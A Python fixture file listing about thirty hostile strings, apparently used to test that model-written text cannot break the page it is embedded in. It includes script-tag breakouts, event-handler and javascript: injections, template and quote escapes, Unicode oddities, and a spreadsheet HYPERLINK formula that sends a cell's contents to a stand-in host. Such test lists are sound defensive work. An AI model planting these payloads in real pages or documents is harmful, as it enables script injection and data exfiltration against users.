"""Texts a model could write to break a page; each tries to set `window.pwned` or to end the data it stands in."""

HOSTILE = {
    "script end": "</script><script>window.pwned=1</script>",
    "script end, spaced": "</ScRiPt \n><script>window.pwned=1</script>",
    "comment": "<!-- <script> window.pwned=1",
    "comment end": "--><script>window.pwned=1</script>",
    "image": "<img src=x onerror=window.pwned=1>",
    "svg": "<svg/onload=window.pwned=1><animate onbegin=window.pwned=1>",
    "frame": '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
    "link": "[click](javascript:window.pwned=1) <a href=javascript:window.pwned=1>click</a>",
    "address": "javascript:window.pwned=1",
    "attribute": '" onmouseover="window.pwned=1" x=\'',
    "style": "</style><style>*{display:none!important}</style>",
    "title": "</title></head></html><script>window.pwned=1</script>",
    "meta": '<meta http-equiv="refresh" content="0;url=https://example.invalid/"><base href="https://example.invalid/">',
    "template": "`${window.pwned=1}` {{constructor.constructor('window.pwned=1')()}}",
    "quote": "'\";window.pwned=1;//\\",
    "entities": "&lt;script&gt; &#60;script&#62; &amp;lt;",
    "escapes": "\\u003cscript\\u003ewindow.pwned=1 \\x3c",
    "line separators": "a\u2028window.pwned=1\u2029b",
    "lone surrogates": "\ud800window.pwned=1\udfff",
    "swapped surrogates": "\udc00\ud83d",
    "nul and controls": "\x00\x07\x08\x0b\x1b[31m\x7f\x85window.pwned=1",
    "carriage return": "one\r\ntwo\rthree",
    "byte order mark and noncharacters": "\ufeffwindow\ufffe.pwned\uffff=\U0001ffff1",
    "direction": "\u202ewindow.pwned=1\u2066\u200f",
    "cdata": "]]><![CDATA[<script>window.pwned=1</script>",
    "prototype": "__proto__",
    "constructor": "constructor",
    "joined emoji": "👩‍👩‍👧‍👦🏳️‍🌈",
    "formula": '=HYPERLINK("https://example.invalid/?"&A1)',
    "form": "<form action=https://example.invalid/><input autofocus onfocus=window.pwned=1>",
}

# Those a run's files may hold: half a surrogate pair is no text, and is refused where it is read.
STORED = {name: text for name, text in HOSTILE.items() if not any("\ud800" <= c <= "\udfff" for c in text)}
